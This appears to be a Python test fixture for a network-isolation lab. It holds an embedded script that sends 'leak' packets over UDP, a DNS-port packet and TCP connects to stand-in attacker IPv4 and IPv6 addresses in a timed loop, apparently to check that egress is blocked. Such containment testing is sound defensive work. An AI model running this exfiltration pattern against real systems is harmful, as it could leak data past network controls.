"""A script that sends to the attacker as often as it can, by every way there is.

It says `up` first and ends after the number of seconds in its first argument; the second
is how long it pauses after each round.
"""

from __future__ import annotations

from typing import Final

from tests.lab.addresses import v4, v6

STORM: Final = f"""
import socket, sys, time
def send(end):
    while time.monotonic() < end:
        for family, address in ((2, "{v4(66)}"), (10, "{v6(66)}")):
            udp = socket.socket(family, socket.SOCK_DGRAM)
            tcp = socket.socket(family, socket.SOCK_STREAM)
            tcp.setblocking(False)
            for step in (lambda: udp.sendto(b"leak", (address, 9999)),
                         lambda: udp.sendto(b"\\0" * 12, (address, 53)),
                         lambda: tcp.connect((address, 80))):
                try: step()
                except OSError: pass
            udp.close(); tcp.close()
        time.sleep(pause)
pause = float((*sys.argv, 0, 0)[2])
print("up", flush=True)
send(time.monotonic() + float(sys.argv[1]))
"""
